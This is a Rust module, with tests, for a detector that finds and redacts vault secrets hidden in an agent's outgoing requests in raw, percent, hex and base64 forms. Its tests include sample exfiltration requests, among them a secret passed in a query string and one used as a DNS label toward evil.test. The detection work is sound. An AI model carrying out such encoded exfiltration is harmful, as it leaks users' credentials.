//! Finds held secret values inside outgoing request material (URL, host labels, headers,
//! body), raw or in the encodings an exfiltrating page would use: percent-encoding (partial or
//! full, `+` for space), base64, base64url and hex, upper or lower case where the encoding
//! allows it.
//!
//! Pure and allocation-light: the broker builds one [`LeakDetector`] per session from the
//! vault's values and asks it about every request. A finding names which secret (by index)
//! and how it was encoded, never the value.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
use base64::Engine;

/// Shortest secret the detector accepts: below this, matches in ordinary traffic become
/// likely. Mandate validation refuses shorter secrets.
pub const MIN_SECRET_LEN: usize = 8;

/// What replaces a held secret in text bound for the agent (see [`LeakDetector::redact`]).
pub const REDACTED: &str = "[held by chaperone]";

/// How a secret was found.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Encoding {
    /// As is (host labels and hex digits compared without case).
    Raw,
    /// Percent-encoded, wholly or in part.
    Percent,
    /// Hexadecimal.
    Hex,
    /// Base64 (standard alphabet), at any alignment.
    Base64,
    /// Base64url, at any alignment.
    Base64Url,
}

/// A held secret found in request material.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Finding {
    /// Index of the secret in the list the detector was built from.
    pub secret: usize,
    /// How it was encoded.
    pub encoding: Encoding,
}

/// Searches request material for a fixed set of secrets.
pub struct LeakDetector {
    /// Raw and hex forms, ASCII case-insensitive (DNS lowercases host labels).
    folded: Option<AhoCorasick>,
    folded_meta: Vec<(usize, Encoding)>,
    /// Base64 forms: case matters.
    exact: Option<AhoCorasick>,
    exact_meta: Vec<(usize, Encoding)>,
}

impl LeakDetector {
    /// A detector for `secrets`. Secrets shorter than [`MIN_SECRET_LEN`] bytes are still
    /// searched for raw, but not in encoded forms.
    pub fn new<S: AsRef<[u8]>>(secrets: &[S]) -> LeakDetector {
        let mut folded = Vec::new();
        let mut folded_meta = Vec::new();
        let mut exact = Vec::new();
        let mut exact_meta = Vec::new();
        for (i, s) in secrets.iter().enumerate() {
            let s = s.as_ref();
            if s.is_empty() {
                continue;
            }
            folded.push(s.to_vec());
            folded_meta.push((i, Encoding::Raw));
            if s.len() < MIN_SECRET_LEN {
                continue;
            }
            folded.push(hex::encode(s).into_bytes());
            folded_meta.push((i, Encoding::Hex));
            for (engine, enc) in [
                (&STANDARD_NO_PAD, Encoding::Base64),
                (&URL_SAFE_NO_PAD, Encoding::Base64Url),
            ] {
                for core in base64_cores(engine, s) {
                    exact.push(core.into_bytes());
                    exact_meta.push((i, enc));
                }
            }
        }
        let build = |case_insensitive: bool, pats: &[Vec<u8>]| {
            if pats.is_empty() {
                return None;
            }
            // A DFA: the pattern sets are small (a few dozen) and every request is scanned, so
            // the fastest search is worth its memory. No prefilter for the case-insensitive
            // set: its candidate bytes (letters and digits in both cases) are so common in
            // ordinary requests that it stops everywhere, and the plain DFA is faster
            // (measured with the decision benchmark).
            AhoCorasickBuilder::new()
                .ascii_case_insensitive(case_insensitive)
                .match_kind(MatchKind::Standard)
                .kind(Some(aho_corasick::AhoCorasickKind::DFA))
                .prefilter(!case_insensitive)
                .build(pats)
                .ok()
        };
        LeakDetector {
            folded: build(true, &folded),
            folded_meta,
            exact: build(false, &exact),
            exact_meta,
        }
    }

    /// A detector for the vault's secrets (indices in findings follow `secrets`).
    pub fn for_secrets(secrets: &[&crate::vault::Secret]) -> LeakDetector {
        let values: Vec<&str> = secrets.iter().map(|s| s.expose()).collect();
        LeakDetector::new(&values)
    }

    /// The first secret found in `material`, looking through percent-encoding too.
    pub fn find(&self, material: &[u8]) -> Option<Finding> {
        self.find_plain(material)
            .or_else(|| self.find_percent_encoded(material))
    }

    /// What only [`find`](Self::find)'s undoing of percent-encoding reveals (twice:
    /// double-encoding is a classic; `+` for space too). `None` at once for material without
    /// `%` or `+`.
    pub fn find_percent_encoded(&self, material: &[u8]) -> Option<Finding> {
        let as_percent = |f: Finding| Finding {
            encoding: if f.encoding == Encoding::Raw {
                Encoding::Percent
            } else {
                f.encoding
            },
            ..f
        };
        let mut current = std::borrow::Cow::Borrowed(material);
        for _ in 0..2 {
            let has_percent = current.contains(&b'%');
            let has_plus = current.contains(&b'+');
            if !has_percent && !has_plus {
                break;
            }
            // Without a `%`, decoding changes nothing that was not searched already.
            let decoded: Vec<u8> = if has_percent {
                percent_encoding::percent_decode(&current).collect()
            } else {
                current.to_vec()
            };
            if has_percent {
                if let Some(f) = self.find_plain(&decoded) {
                    return Some(as_percent(f));
                }
            }
            if has_plus {
                let plus: Vec<u8> = current
                    .iter()
                    .map(|&b| if b == b'+' { b' ' } else { b })
                    .collect();
                let plus_decoded: Vec<u8> = percent_encoding::percent_decode(&plus).collect();
                if let Some(f) = self.find_plain(&plus_decoded) {
                    return Some(as_percent(f));
                }
            }
            if !has_percent {
                break;
            }
            current = std::borrow::Cow::Owned(decoded);
        }
        None
    }

    /// `s` with every held secret replaced by [`REDACTED`], or `None` when `s` holds none (so
    /// text without secrets is never copied or changed).
    ///
    /// Raw, hex and base64/base64url forms are replaced where they are, keeping the text around
    /// them. A form that can only be seen after undoing percent-encoding has no position in `s`;
    /// if one is left after the positional pass, the whole of `s` becomes the marker. The result
    /// never contains a secret [`find`](Self::find) would report.
    pub fn redact(&self, s: &str) -> Option<String> {
        self.find(s.as_bytes())?;
        // A secret could be part of the marker itself (the mandate only bounds its length);
        // then the replacement is empty, which cannot contain a non-empty secret.
        let marker = if self.find(REDACTED.as_bytes()).is_some() {
            ""
        } else {
            REDACTED
        };
        let mut current = s.to_owned();
        // Replacing matches can join the text around them into a new one (only with the empty
        // marker), so repeat a few times; whatever survives is handled below.
        for _ in 0..4 {
            let ranges = self.plain_ranges(current.as_bytes());
            if ranges.is_empty() {
                break;
            }
            let bytes = current.as_bytes();
            let mut out = Vec::with_capacity(bytes.len());
            let mut last = 0;
            for (start, end) in ranges {
                out.extend_from_slice(&bytes[last..start]);
                out.extend_from_slice(marker.as_bytes());
                last = end;
            }
            out.extend_from_slice(&bytes[last..]);
            // Secrets given as bytes that are not UTF-8 can match in the middle of a character.
            current = match String::from_utf8(out) {
                Ok(text) => text,
                Err(e) => String::from_utf8_lossy(e.as_bytes()).into_owned(),
            };
        }
        if self.find(current.as_bytes()).is_some() {
            return Some(marker.to_owned());
        }
        Some(current)
    }

    /// The byte ranges of every raw, hex or base64 match in `material`, overlapping matches
    /// merged, in order.
    fn plain_ranges(&self, material: &[u8]) -> Vec<(usize, usize)> {
        let mut ranges: Vec<(usize, usize)> = [&self.folded, &self.exact]
            .into_iter()
            .flatten()
            .flat_map(|ac| ac.find_overlapping_iter(material))
            .map(|m| (m.start(), m.end()))
            .collect();
        ranges.sort_unstable();
        let mut merged: Vec<(usize, usize)> = Vec::with_capacity(ranges.len());
        for (start, end) in ranges {
            match merged.last_mut() {
                Some(last) if start <= last.1 => last.1 = last.1.max(end),
                _ => merged.push((start, end)),
            }
        }
        merged
    }

    /// [`find`](Self::find) without undoing percent-encoding: raw, hex and base64 forms only.
    pub fn find_plain(&self, material: &[u8]) -> Option<Finding> {
        let hit = |ac: &Option<AhoCorasick>, meta: &[(usize, Encoding)]| {
            ac.as_ref()?.find(material).map(|m| {
                let (secret, encoding) = meta[m.pattern().as_usize()];
                Finding { secret, encoding }
            })
        };
        hit(&self.folded, &self.folded_meta).or_else(|| hit(&self.exact, &self.exact_meta))
    }
}

/// The parts of `base64(prefix ++ secret ++ suffix)` that depend on the secret alone, for the
/// three alignments the secret can have inside a longer encoded string.
fn base64_cores(engine: &impl Engine, secret: &[u8]) -> Vec<String> {
    let mut cores = Vec::with_capacity(3);
    for k in 0..3usize {
        let mut buf = vec![0u8; k];
        buf.extend_from_slice(secret);
        let enc = engine.encode(&buf);
        // Characters before this one mix prefix bits in; each character holds 6 bits.
        let skip = (8 * k).div_ceil(6);
        let total = k + secret.len();
        let (full, rest) = (total / 3, total % 3);
        // After the last full group, only characters made of secret bits alone are stable.
        let end = 4 * full + (8 * rest) / 6;
        if end > skip && end - skip >= MIN_SECRET_LEN {
            cores.push(enc[skip..end].to_string());
        }
    }
    cores
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const SECRET: &str = "SECRET-TOKEN-93ab2e";

    fn det() -> LeakDetector {
        LeakDetector::new(&["unrelated-secret-value", SECRET])
    }

    #[test]
    fn every_listed_encoding_is_found() {
        let d = det();
        let pct: String = SECRET.bytes().map(|b| format!("%{b:02X}")).collect();
        let cases: Vec<(String, Encoding)> = vec![
            (format!("GET /collect?t={SECRET}"), Encoding::Raw),
            // As a DNS label: hosts arrive lowercased.
            (
                format!("CONNECT {}.evil.test:443", SECRET.to_lowercase()),
                Encoding::Raw,
            ),
            (format!("/x?t={pct}"), Encoding::Percent),
            (
                format!("/x?t={}", SECRET.replace('-', "%2d")),
                Encoding::Percent,
            ),
            (
                format!("/x?t={}", pct.replace('%', "%25")),
                Encoding::Percent,
            ),
            (format!("a={}", hex::encode(SECRET)), Encoding::Hex),
            (format!("a={}", hex::encode_upper(SECRET)), Encoding::Hex),
            (
                format!(
                    "a={}",
                    base64::engine::general_purpose::STANDARD.encode(SECRET)
                ),
                Encoding::Base64,
            ),
            (
                format!("a={}", URL_SAFE_NO_PAD.encode(format!("xy{SECRET}z"))),
                Encoding::Base64Url,
            ),
        ];
        for (material, enc) in cases {
            let f = d.find(material.as_bytes());
            assert!(f.is_some(), "missed: {material}");
            let f = f.unwrap();
            assert_eq!(f.secret, 1, "{material}");
            if enc != Encoding::Raw {
                // Base64 of some strings is also valid base64url, and vice versa.
                let same_family = matches!(
                    (enc, f.encoding),
                    (Encoding::Base64, Encoding::Base64Url)
                        | (Encoding::Base64Url, Encoding::Base64)
                );
                assert!(f.encoding == enc || same_family, "{material}: {f:?}");
            }
        }
    }

    #[test]
    fn ordinary_traffic_is_not_flagged() {
        let d = det();
        for material in [
            "GET /index.html HTTP/1.1\r\nHost: bank.test\r\nAccept: */*\r\n\r\n",
            "Bearer SECRET-TOKEN-93ab2", // a prefix of the secret is not the secret
            "q=secret+token",
        ] {
            assert_eq!(d.find(material.as_bytes()), None, "{material}");
        }
        assert_eq!(LeakDetector::new::<&str>(&[]).find(b"anything"), None);
    }

    #[test]
    fn vault_secrets_are_searched_by_value_and_reported_by_index() {
        let key = crate::vault::FingerprintKey::random();
        let a = crate::vault::Secret::new("first-held-value".into(), &key);
        let b = crate::vault::Secret::new(SECRET.into(), &key);
        let d = LeakDetector::for_secrets(&[&a, &b]);
        let f = d
            .find(format!("/?x={}", hex::encode(SECRET)).as_bytes())
            .unwrap();
        assert_eq!((f.secret, f.encoding), (1, Encoding::Hex));
    }

    #[test]
    fn short_secrets_are_found_raw_only() {
        let d = LeakDetector::new(&["abc"]);
        assert!(d.find(b"xxabcxx").is_some());
        assert_eq!(d.find(hex::encode("abc").as_bytes()), None);
    }

    #[test]
    fn redact_replaces_each_form_in_place() {
        let d = det();
        let b64 = base64::engine::general_purpose::STANDARD.encode(format!("u:{SECRET}"));
        let text = format!("a={SECRET}&b={}&c={b64}&d=plain", hex::encode_upper(SECRET));
        let out = d.redact(&text).unwrap();
        assert!(
            out.starts_with(&format!("a={REDACTED}&b={REDACTED}&c=")),
            "{out}"
        );
        assert!(out.ends_with("&d=plain"), "{out}");
        assert_eq!(d.find(out.as_bytes()), None, "{out}");
        // Lowercased, as in a host label.
        let out = d
            .redact(&format!("{}.evil.test", SECRET.to_lowercase()))
            .unwrap();
        assert_eq!(out, format!("{REDACTED}.evil.test"));
        // Overlapping occurrences become one marker.
        let d2 = LeakDetector::new(&["abababab"]);
        assert_eq!(d2.redact("xababababab-").unwrap(), format!("x{REDACTED}-"));
    }

    #[test]
    fn redact_blanks_what_only_percent_decoding_reveals() {
        let d = det();
        let pct: String = SECRET.bytes().map(|b| format!("%{b:02X}")).collect();
        assert_eq!(d.redact(&format!("/x?t={pct}")).unwrap(), REDACTED);
        assert_eq!(d.redact("nothing held here"), None);
    }

    #[test]
    fn redact_never_leaves_a_secret_that_is_part_of_the_marker() {
        let d = LeakDetector::new(&["chaperone"]);
        let out = d.redact("x chaperone y").unwrap();
        assert_eq!(d.find(out.as_bytes()), None, "{out}");
        assert_eq!(out, "x  y");
        // Removing one occurrence joins the text around it into another.
        let d = LeakDetector::new(&["held by "]);
        let out = d.redact("held bheld by y ").unwrap();
        assert_eq!(d.find(out.as_bytes()), None, "{out}");
    }

    proptest! {
        #[test]
        fn base64_at_any_alignment_is_found(
            secret in "[ -~]{8,40}",
            prefix in proptest::collection::vec(any::<u8>(), 0..7),
            suffix in proptest::collection::vec(any::<u8>(), 0..7),
            url_safe in any::<bool>(),
        ) {
            let d = LeakDetector::new(&[secret.as_bytes()]);
            let mut data = prefix.clone();
            data.extend_from_slice(secret.as_bytes());
            data.extend_from_slice(&suffix);
            let encoded = if url_safe {
                URL_SAFE_NO_PAD.encode(&data)
            } else {
                base64::engine::general_purpose::STANDARD.encode(&data)
            };
            prop_assert!(d.find(format!("x={encoded}&y=1").as_bytes()).is_some(), "{}", encoded);
        }

        #[test]
        fn percent_encoding_of_any_subset_is_found(
            secret in "[ -~]{8,40}",
            mask in proptest::collection::vec(any::<bool>(), 40),
        ) {
            let d = LeakDetector::new(&[secret.as_bytes()]);
            let encoded: String = secret
                .bytes()
                .zip(mask.iter())
                // `%` and `+` must be encoded for the receiver to get the secret back.
                .map(|(b, &m)| {
                    if m || b == b'%' || b == b'+' {
                        format!("%{b:02x}")
                    } else {
                        (b as char).to_string()
                    }
                })
                .collect();
            prop_assert!(d.find(format!("/p?v={encoded}").as_bytes()).is_some(), "{}", encoded);
        }

        #[test]
        fn redact_leaves_no_secret_and_keeps_clean_text(
            secrets in proptest::collection::vec("[!-~]{8,24}", 1..4),
            pieces in proptest::collection::vec(("[ -~]{0,12}", 0usize..4, 0usize..6), 0..6),
        ) {
            let d = LeakDetector::new(&secrets);
            // Text assembled from noise and secrets in every form the detector knows.
            let mut text = String::new();
            for (noise, which, form) in &pieces {
                text.push_str(noise);
                if let Some(s) = secrets.get(*which) {
                    let encoded = match form {
                        0 => s.clone(),
                        1 => s.to_lowercase(),
                        2 => hex::encode(s),
                        3 => base64::engine::general_purpose::STANDARD.encode(format!("x{s}")),
                        4 => URL_SAFE_NO_PAD.encode(s),
                        _ => s.bytes().map(|b| format!("%{b:02x}")).collect(),
                    };
                    text.push_str(&encoded);
                }
            }
            match d.redact(&text) {
                Some(out) => {
                    prop_assert!(d.find(text.as_bytes()).is_some());
                    prop_assert_eq!(d.find(out.as_bytes()), None, "{}", out);
                }
                None => prop_assert_eq!(d.find(text.as_bytes()), None),
            }
        }

        #[test]
        fn redact_returns_none_for_text_without_secrets(
            secret in "[!-~]{8,24}",
            text in "[ -~]{0,64}",
        ) {
            let d = LeakDetector::new(&[&secret]);
            prop_assume!(d.find(text.as_bytes()).is_none());
            prop_assert_eq!(d.redact(&text), None);
        }
    }
}
